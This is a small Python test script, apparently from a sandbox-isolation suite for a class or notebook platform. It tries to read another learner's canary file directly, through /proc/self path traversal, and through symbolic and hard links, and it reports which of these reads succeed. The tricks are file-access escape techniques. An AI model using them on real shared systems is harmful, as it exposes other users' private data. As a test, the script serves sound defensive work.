# /// attack
# title = "Reads the file of another learner of the class, straight away and around corners"
# [tier.process]
# broke = true
# reason = "there is no sandbox in this tier: a program reads what its user may read"
# ///

# %%
import os

for path in ["@CANARY_OTHER@", "/proc/self/cwd/../../../../../../@CANARY_OTHER@", "/proc/self/root@CANARY_OTHER@"]:
    print("TRIED", path)
    try:
        if "@SECRET@" in open(path).read():
            print("BROKE read", path)
    except OSError as error:
        print(error)

# %%
print("TRIED a symbolic link")
os.symlink("@CANARY_OTHER@", "mine.txt")
try:
    print("BROKE read through a link", open("mine.txt").read())
except OSError as error:
    print(error)

# %%
print("TRIED a hard link")
try:
    os.link("@CANARY_OTHER@", "hard.txt")
    print("BROKE read through a hard link", open("hard.txt").read())
except OSError as error:
    print(error)
